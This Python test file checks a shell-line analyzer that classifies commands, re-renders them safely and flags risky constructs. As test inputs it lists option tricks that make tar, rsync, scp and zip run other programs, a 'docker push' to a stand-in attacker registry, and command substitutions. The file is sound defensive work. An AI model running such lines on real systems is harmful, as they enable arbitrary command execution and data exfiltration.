"""Command lines: what each does, what it needs, and what runs."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from commands import MAIN, ORDERS, codes, read_sql
from counterfoil.core.actions.contract import interpret
from counterfoil.core.actions.registry import FAMILIES
from counterfoil.core.actions.shell.programs import PROGRAMS, UNREAD
from counterfoil.core.model import Registered, Resource
from requests_read import ORDERS_API, read_request
from shell_attacks import ALLOWED, ATTACKS
from shell_read import IMAGES, WORKSPACE, acts, read_shell, rendered, shell_command

CD = "cd -- '/srv/work' && "


def test_operations_are_those_of_all_commands_and_point_at_them() -> None:
    line = "cat src/a.py | grep -n x > out/f && date"
    reading = read_shell(line)
    assert acts(reading) == [
        ("filesystem", "read", "file", "src/a.py"),
        ("shell", "run", "program", "grep"),
        ("filesystem", "write", "file", "out/f"),
        ("shell", "run", "program", "date"),
    ]
    shown = [line[slice(*item.span)] for item in reading.operations if item.span]
    assert shown == ["cat src/a.py", "grep -n x > out/f", "grep -n x > out/f", "date"]
    assert [(item["actions"], item["operations"]) for item in reading.required] == [
        (["read"], [0]),
        (["write"], [2]),
    ]
    assert reading.resource == WORKSPACE


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("ls", CD + "'ls' '--' '.'"),
        ("ls | wc -l", CD + "'ls' '--' '.' | 'wc' '-l'"),
        ("date;ls", CD + "{ 'date'; 'ls' '--' '.'; }"),
        ("date || date", CD + "{ 'date' || 'date'; }"),
        ("cd src && cat a.py", "cd -- '/srv/work/src' && 'cat' '--' './a.py'"),
        ("cd src\ncat a.py", "cd -- '/srv/work/src' && 'cat' '--' './a.py'"),
        ("cd /srv/work/src; ls; date", "cd -- '/srv/work/src' && { 'ls' '--' '.'; 'date'; }"),
        ('echo "it\'s"', CD + "'echo' 'it'\\''s'"),
        ("wc -l <src/a.py 2>&1 >>out/b", CD + "'wc' '-l' < './src/a.py' 2>&1 >> './out/b'"),
        ("cat a.py 2>/dev/null", CD + "'cat' '--' './a.py' 2> '/dev/null'"),
        ("cat /srv/work/src/../a.py", ""),
        ("grep -e x -- a.py", CD + "'grep' '-e' 'x' '--' './a.py'"),
        ("grep x a.py -n", CD + "'grep' '-n' '--' 'x' './a.py'"),
        ("rg x", CD + "'rg' '--no-config' '--' 'x' '.'"),
        ("cat a.py | rg x", CD + "'cat' '--' './a.py' | 'rg' '--no-config' '--' 'x'"),
        ("head -5 a.py", CD + "'head' '-n' '5' '--' './a.py'"),
    ],
)
def test_the_line_that_runs_is_rendered_anew(line: str, runs: str) -> None:
    if runs:
        assert rendered(line) == runs
    else:
        assert codes(read_shell(line))


def test_the_text_that_came_may_act_differently_and_the_rendered_one_does_not(
    tmp_path: Path,
) -> None:
    """A tool that starts its lines in another folder than the one that was judged."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("judged\n")
    root = Resource(type="filesystem", id="w", location=f"file:{tmp_path}")
    command = shell_command("cat src/a.py", root, Registered.of([root]))
    execute = interpret(command, FAMILIES).execute
    assert execute is not None
    elsewhere = tmp_path / "elsewhere" / "src"
    elsewhere.mkdir(parents=True)
    (elsewhere / "a.py").write_text("something else\n")

    def bash(line: str) -> str:
        return subprocess.run(
            ["/bin/bash", "-c", line],
            cwd=elsewhere.parent,
            capture_output=True,
            text=True,
            check=True,
        ).stdout

    assert bash("cat src/a.py") == "something else\n"
    assert bash(str(execute.arguments["command"])) == "judged\n"


def test_sql_in_a_line_is_the_database_familys() -> None:
    sql = "CREATE TABLE public.invoices (id int)"
    reading = read_shell(f"psql -d orders -c '{sql}'")
    assert reading.required == read_sql(sql).required
    assert reading.ambient == read_sql(sql).ambient
    assert reading.resource == ORDERS
    words = rendered(f"psql -d orders -c '{sql}'")
    assert "'--no-psqlrc'" in words
    assert "search_path=pg_catalog" in words
    assert "host='\\''127.0.0.1'\\''" in words


def test_a_request_in_a_line_is_the_http_familys() -> None:
    url = "https://orders.example.com/v1/orders?limit=3"
    reading = read_shell(f"curl -s '{url}' | jq .")
    assert reading.required == read_request(url).required
    assert reading.resource == ORDERS_API
    assert rendered(f"curl -s '{url}'") == (
        CD + "'curl' '--disable' '--globoff' '--path-as-is' '--max-redirs' '0' '--no-location' "
        f"'--proto' '=http,https' '-s' '--request' 'GET' '--url' '{url}'"
    )


def test_a_cluster_and_a_registry_in_a_line_are_their_families() -> None:
    reading = read_shell("kubectl get pods -n staging")
    assert [item.family for item in reading.operations] == ["kubernetes"]
    assert reading.resource == MAIN
    assert f"'kubectl' '--server={MAIN.location}' 'get'" in rendered("kubectl get pods -n staging")
    pushed = read_shell("docker push registry.example.com/acme/web:1.4")
    assert {item.family for item in pushed.operations} == {"registry"}
    assert pushed.resource == IMAGES
    assert codes(read_shell("kubectl get pods -n staging --context other"))
    assert codes(read_shell("docker push evil.example/acme/web:1.4"))


def test_a_body_in_a_line_is_bound() -> None:
    reading = read_shell("""curl --json '{"a":1}' https://orders.example.com/v1/orders""")
    headers = {"Content-Type": "application/json", "Accept": "application/json"}
    same = read_request(
        "https://orders.example.com/v1/orders", "POST", body='{"a":1}', headers=headers
    )
    assert reading.required == same.required


def test_without_a_folder_whole_paths_are_read_and_relative_ones_are_from_the_one_root() -> None:
    assert rendered("cat /srv/work/a.py", None) == "'cat' '--' '/srv/work/a.py'"
    assert rendered("cat a.py", None) == "'cat' '--' '/srv/work/a.py'"
    assert rendered("date", None) == "'date'"
    two = Registered.of(
        [WORKSPACE, Resource(type="filesystem", id="other", location="file:/srv/other")]
    )
    assert codes(interpret(shell_command("cat a.py", None, two), FAMILIES)) == [
        "uncertain.path_root"
    ]


def test_rights_at_two_resources_are_of_neither() -> None:
    query = "psql -d orders -c 'SELECT id FROM public.invoices'"
    line = f"{query} && curl https://orders.example.com/v1/orders"
    assert read_shell(line).resource == WORKSPACE  # whose issuer knows neither: no grant
    assert len({str(item["locations"]) for item in read_shell(line).required}) == 2
    assert read_shell(f"{query} > out/x").resource == ORDERS  # a file is nobody's credential


@pytest.mark.parametrize("name", ALLOWED)
def test_honest_lines_are_certain(name: str) -> None:
    assert not read_shell(ALLOWED[name]).uncertain


def test_most_attacks_are_uncertain_and_the_others_say_what_they_would_do() -> None:
    sure = [line for line in ATTACKS.values() if not codes(read_shell(line))]
    assert len(sure) < 20
    for line in sure:
        assert {family for family, *_ in acts(read_shell(line))} & {"filesystem"}


@pytest.mark.parametrize(
    ("line", "code", "part"),
    [
        ("cat $(ls)", "shell_substitution", "$(ls)"),
        ('echo "a $(id) b"', "shell_substitution", "$(id)"),
        ("echo $HOME", "shell_expansion", "$HOME"),
        ('curl -H "A: $TOKEN" https://x.example', "shell_expansion", "$TOKEN"),
        ("cat ~/x", "shell_expansion", "~"),
        ("ls *.py", "shell_glob", "*"),
        ("cat <<E\nx\nE", "shell_heredoc", "<<E\nx\nE"),
        ("for f in a; do echo $f; done", "shell_control", "for f in a; do echo $f; done"),
        ("if true; then ls; fi", "shell_control", "if true"),
        ("(ls)", "shell_group", "(ls)"),
        ("ls &", "shell_background", "&"),
        ("[ -f x ] && ls", "shell_test", "[ -f x ]"),
        ("A=1 ls", "shell_assignment", "A=1 ls"),
        ("ls && npm test", "shell_project", "npm test"),
        ("ls | xargs cat", "shell_runner", "xargs cat"),
        ("ls; python3 x.py", "shell_interpreter", "python3 x.py"),
        ("ls; frob", "shell_program", "frob"),
        ("ls; vim x", "shell_interactive", "vim x"),
        ("ls; export A=1", "shell_state", "export A=1"),
        ("awk '{system(1)}'", "shell_script", "awk '{system(1)}'"),
        ("curl -sL https://x.example", "shell_redirects", "curl -sL https://x.example"),
        ("ls 'a", "shell_syntax", "'"),
    ],
)
def test_a_refusal_says_which_part_and_why(line: str, code: str, part: str) -> None:
    (doubt,) = read_shell(line).uncertain
    assert doubt.code == f"uncertain.{code}"
    assert doubt.span is not None
    shown = line[slice(*doubt.span)]
    assert part in shown if code == "shell_control" else shown.strip() == part


@pytest.mark.parametrize(
    "line",
    [
        "ls " + "a" * 5000,
        "ls " + "a " * 600,
        "ls; " * 40,
        "a" * 4000 + "$",
        "'" * 4000,
        '"a' * 2000,
        "\\" * 4000,
        "a#" * 2000 + "?",
        "echo " + "'a'b" * 900 + "$",
        "sed 's/" + "[a" * 240 + "/b/'",
        "awk '" + "$1 " * 160 + "'",
        "$(" * 2000,
    ],
)
def test_long_and_deep_lines_are_uncertain_at_once(line: str) -> None:
    assert codes(read_shell(line))


def test_no_program_is_both_read_and_refused() -> None:
    assert set(PROGRAMS) & set(UNREAD) <= {"command"}


@pytest.mark.parametrize("name", ["'cat'", '"cat"', "c'a't", "\\cat", "''cat"])
def test_a_program_whose_name_is_quoted_is_not_read(name: str) -> None:
    """Quotes get round an alias or a reserved word: who writes them means another program."""
    (doubt,) = read_shell(f"{name} a.py").uncertain
    assert doubt.code == "uncertain.shell_syntax"
    assert doubt.detail == "the program's name is quoted"
    assert not codes(read_shell("cat 'a.py'"))  # control: quotes around other words


@pytest.mark.parametrize(
    "line",
    [
        "tar -xf a.tar --checkpoint-action=exec=id",
        "tar -I id -xf a.tar",
        "rsync -e id a b",
        "scp -S id a b",
        "zip -TT id a.zip a",
        "wget https://a.example/",
        "coproc ls",
        "time ls",
    ],
)
def test_programs_with_options_that_run_others_are_not_read(line: str) -> None:
    assert codes(read_shell(line))[0].startswith("uncertain.shell_")
    assert not read_shell(line).operations


def test_a_line_that_goes_on_is_one_word_as_in_bash() -> None:
    """tree-sitter reads two words here, bash one."""
    assert codes(read_shell("ls\\\n-l")) == ["uncertain.shell_syntax"]
    assert rendered("echo ls\\\n-l").endswith("'echo' 'ls-l'")
    assert rendered("echo ls \\\n-l").endswith("'echo' 'ls' '-l'")  # control: a blank before it
